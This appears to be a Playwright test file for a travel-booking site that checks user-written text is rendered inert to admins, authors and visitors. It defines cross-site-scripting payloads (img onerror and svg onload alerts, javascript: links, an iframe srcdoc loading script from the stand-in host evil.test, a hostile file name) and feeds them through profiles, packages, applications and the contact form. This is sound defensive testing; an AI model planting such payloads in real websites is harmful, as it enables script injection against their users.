import type { BrowserContext } from "@playwright/test";
import { ADMIN, enter, NO_BLENDING, signIn, storedSession, type TestUser, wireFrom } from "../../harness/account";
import { heading } from "../../harness/packageWizard";
import { leaveQueue } from "../../harness/queues";
import { expect, type Page, REFUSED_LOADS, test } from "../../harness/test";

// User text is displayed as written, to admins, authors and visitors, in server-rendered and client-rendered pages.
// None of it runs, and no dialog opens.

test.use({ siteOf: "markup", tolerated: new RegExp(`${NO_BLENDING.source}|${REFUSED_LOADS.source}`) });
test.setTimeout(300_000);

/** Ends any context: an attribute, a script, a style, a title, a comment. */
const OUT = `'"--></script></style></title>`;
const LINE = `${OUT}<img src=//evil.test/i onerror=alert(1)>`;
const LONG = `${LINE}\n<svg onload=alert(2)></svg><a href="javascript:alert(3)">here</a>\n<iframe srcdoc="<script src=//evil.test/s></script>"></iframe>`;
const LINK = "javascript:alert(4)//evil.test";

const HOSTILE: TestUser = { name: `${OUT}<img src=//evil.test/n onerror=alert(5)>`, email: "b02@example.org" };

/** Records signs of executed markup. */
function listen(context: BrowserContext, heard: string[]): void {
  context.on("dialog", (dialog) => {
    heard.push(`dialog: ${dialog.message()}`);
    void dialog.dismiss();
  });
  context.on("request", (request) => {
    if (new URL(request.url()).hostname === "evil.test") heard.push(`asked: ${request.url()}`);
  });
  context.on("console", (message) => {
    if (/Content.Security.Policy|Trusted(HTML|Script)/i.test(message.text())) heard.push(message.text());
  });
}

/** The texts are displayed as written, without a link or a listener. */
async function isText(page: Page, ...texts: string[]): Promise<void> {
  for (const text of texts) {
    const first = text.split("\n")[0] ?? "";
    await expect(page.getByRole("main").getByText(first).filter({ visible: true }).first(), page.url()).toBeVisible();
  }
  const alive = await page.evaluate(() =>
    [...document.querySelectorAll("*")]
      .filter((element) =>
        [...element.attributes].some(({ name, value }) => {
          if (name.startsWith("on") || name === "srcdoc") return true;
          if (!["href", "src", "action", "formaction", "data", "poster"].includes(name)) return false;
          const { protocol, hostname } = new URL(value, location.href);
          return protocol === "javascript:" || hostname === "evil.test";
        }),
      )
      .map((element) => element.outerHTML),
  );
  expect(alive, page.url()).toEqual([]);
}

const trip = (title: string) => ({
  title,
  description: LONG,
  duration: "2 days",
  max_people: 6,
  price: 240.5,
  highlights: LONG,
  included: LINE,
  excluded: LINK,
  locations: [{ location_name: LINE }],
  categories: ["nature"],
  days: [{ title: LINE, description: LONG, attractions: [{ title: LINE, description: LONG, location: LINE }] }],
  images: ["/pictures/ella-dawn-3.webp"],
  paid_locally: "costs",
  local_costs: [{ label: LINE, amount_usd: 5, per: "person", is_optional: false }],
  shopping: "stops",
  shopping_stops: LONG,
  shopping_commission: true,
});

test("markup in what people write is text for admins, for its authors and for everybody (T-B02)", async ({
  page,
  browser,
  site,
}) => {
  const events: string[] = [];
  listen(page.context(), events);
  const admin = await enter(browser, site.url, ADMIN);
  listen(admin.context(), events);
  const decide = await wireFrom(admin, site.url);

  await signIn(page, HOSTILE);
  const hostile = await wireFrom(page, site.url);
  const claims = (await storedSession(page))?.access_token.split(".")[1] ?? "";
  const user = JSON.parse(Buffer.from(claims, "base64url").toString()).sub;

  await test.step("a name that came from elsewhere", async () => {
    await page.goto("/profile");
    await isText(page, HOSTILE.name);
  });

  const application = {
    display_name: LINE,
    bio: LONG,
    contact_email: HOSTILE.email,
    selected_locations: [LINE, LINK],
    selected_languages: ["English"],
    selected_specialties: ["Trekking"],
  };
  await test.step("an application, and the reason why it is refused", async () => {
    for (const [field, bad] of [
      ["contact_whatsapp", LINK],
      ["contact_whatsapp", LINE],
      ["contact_email", LINK],
      ["avatar_url", LINK],
    ] as const) {
      await expect(hostile("POST", "guide_applications", { ...application, [field]: bad }), field).rejects.toThrow(
        "answered 400",
      );
    }
    await hostile("POST", "guide_applications", application);
    await admin.goto("/admin?tab=applications&show=pending");
    await admin.getByRole("button", { name: LINE }).click();
    await isText(admin, LINE, LONG, LINK);
    await admin.keyboard.press("r");
    await admin.getByRole("dialog", { name: "Reject Application" }).getByRole("textbox").fill(LONG);
    await admin.getByRole("button", { name: "Reject Application" }).click();
    await leaveQueue(admin);
    await expect(admin.getByText("Guide application has been rejected.")).toBeVisible();
    await admin.goto("/admin?tab=applications&show=rejected");
    await isText(admin, LINE, LONG);
    await page.goto("/guide-onboarding");
    await isText(page, LONG);
    await expect(page.getByRole("textbox", { name: "Display Name" })).toHaveValue(LINE);
  });

  const guide = await test.step("a guide", async () => {
    await hostile("POST", "guide_applications", application);
    await decide("PATCH", `guide_applications?user_id=eq.${user}&status=eq.pending`, { status: "approved" });
    const document = { education: LINE, certifications: [LINE, LINK], experience_years: 3 };
    await hostile("POST", "rpc/save_guide_settings", { document });
    for (const avatar_url of [LINK, "https://evil.test/a.png"]) {
      await expect(hostile("POST", "rpc/save_guide_settings", { document: { avatar_url } })).rejects.toThrow("400");
    }
    const [row] = (await hostile("GET", `guides?user_id=eq.${user}&select=id`)) as { id: string }[];
    await page.goto(`/guides/${row?.id}`);
    await heading(page, LINE);
    await isText(page, LINE, LONG);
    await page.goto("/profile?tab=settings");
    await isText(page, LINE, LINK);
    return row?.id ?? "";
  });

  const sold = await test.step("a package, as the admin reads it and as everybody does", async () => {
    for (const images of [[LINK], ["https://evil.test/a.webp"]]) {
      const bad = { ...trip(LINE), images };
      await expect(hostile("POST", "rpc/save_package", { document: bad })).rejects.toThrow("400");
    }
    const { id } = (await hostile("POST", "rpc/save_package", { document: trip(LINE) })) as { id: string };
    await admin.goto("/admin");
    await admin.getByRole("button", { name: LINE }).click();
    await isText(admin, LINE, LONG, LINK);
    await decide("PATCH", `packages?id=eq.${id}`, { status: "approved" });
    await page.goto(`/packages/${id}`);
    await heading(page, LINE);
    for (const tab of await page.getByRole("main").getByRole("tab").all()) {
      await tab.click();
      await isText(page, LINE, LONG);
    }
    await page.goto(`/search?q=${encodeURIComponent(LINE)}`);
    await isText(page, LINE);
    for (const address of ["/guides?sortBy=newest", `/guides?q=${encodeURIComponent(LINE)}`]) {
      await page.goto(address);
      await isText(page, LINE);
    }
    await page.goto("/");
    const box = page.getByRole("combobox", { name: "Where do you want to explore?" });
    await box.fill(OUT);
    await isText(page);
    return id;
  });

  await test.step("changes to it beside what is live, and the reason why they are refused", async () => {
    const changed = { ...trip(`${LINE}!`), id: sold, highlights: LINK };
    await hostile("POST", "rpc/save_package", { document: changed });
    await admin.goto("/admin");
    await admin.getByRole("button", { name: `${LINE}!` }).click();
    await expect(admin.getByText("Changes to a live package")).toBeVisible();
    await isText(admin, LINE, LINK);
    await decide("PATCH", `package_revisions?package_id=eq.${sold}&status=eq.pending`, {
      status: "rejected",
      rejection_reason: LONG,
    });
    await page.goto(`/packages/${sold}/edit`);
    await isText(page, LONG);
    await page.goto("/profile");
    await isText(page, LINE);
  });

  await test.step("a request to join, and the reason why it is refused", async () => {
    const [other] = site.catalogue.trips;
    const [asked] = (await hostile("POST", "guide_package_requests", {
      guide_id: guide,
      package_id: other?.id,
      request_message: LONG,
    })) as { id: string }[];
    await admin.goto(`/admin?tab=requests&q=${encodeURIComponent(OUT)}`);
    await isText(admin, LINE, LONG);
    await decide("PATCH", `guide_package_requests?id=eq.${asked?.id}`, { status: "rejected", rejection_reason: LONG });
    await admin.reload();
    await isText(admin, LINE, LONG);
    await page.goto("/profile?tab=requests");
    await isText(page, LONG);
    await page
      .getByRole("banner")
      .getByRole("button", { name: /^Notifications/ })
      .click();
    await expect(page.getByRole("banner").getByText(LINE).first()).toBeVisible();
    await isText(page);
  });

  await test.step("a message through the contact form", async () => {
    await page.goto("/contact");
    for (const name of ["First Name", "Last Name", "Subject"]) await page.getByRole("textbox", { name }).fill(LINE);
    await page.getByRole("textbox", { name: "Email" }).fill(HOSTILE.email);
    await page.getByRole("textbox", { name: "Message" }).fill(LONG);
    await page.getByRole("button", { name: "Send Message" }).click();
    await expect(page.getByRole("region", { name: "Notifications" })).not.toBeEmpty();
    await admin.goto("/admin?tab=messages");
    await isText(admin, LINE, LONG);
  });

  await test.step("the log of all this, and the mails about it", async () => {
    await admin.goto("/admin?tab=audit");
    const refusals = admin.getByRole("table").getByRole("button", { name: /^Rejected\b/ });
    await expect(refusals.first()).toBeVisible();
    for (const refusal of await refusals.all()) {
      await refusal.click();
      await expect(refusal).toHaveAttribute("aria-current", "true");
      await isText(admin);
    }
    await expect(async () => {
      await admin.goto("/demo/outbox");
      await expect(admin.getByRole("main").getByText(LINE).first()).toBeVisible({ timeout: 5_000 });
    }).toPass();
    await isText(admin, LINE);
  });

  await test.step("the name of a file", async () => {
    await page.goto("/add-package?step=5");
    await heading(page, "Package Images", 2);
    const name = `${OUT.replaceAll("/", ":")}<img src=x onerror=alert(6)>.png`;
    await page
      .getByLabel("Choose pictures")
      .setInputFiles({ name, mimeType: "image/png", buffer: Buffer.from("<svg onload=alert(7)></svg>") });
    await expect(page.getByRole("listitem").filter({ hasText: name }).getByRole("alert")).toBeVisible();
    await isText(page, name);
  });

  expect(events, "nothing ran and nobody was asked").toEqual([]);
});
